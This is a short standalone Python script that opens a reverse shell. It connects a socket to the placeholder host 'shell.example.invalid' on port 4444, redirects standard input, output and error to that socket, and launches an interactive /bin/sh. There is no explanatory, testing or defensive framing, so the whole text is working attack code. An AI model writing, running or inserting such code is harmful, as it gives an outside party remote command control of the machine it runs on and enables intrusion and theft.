import os, socket, subprocess
s = socket.socket()
s.connect(("shell.example.invalid", 4444))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
subprocess.call(["/bin/sh", "-i"])
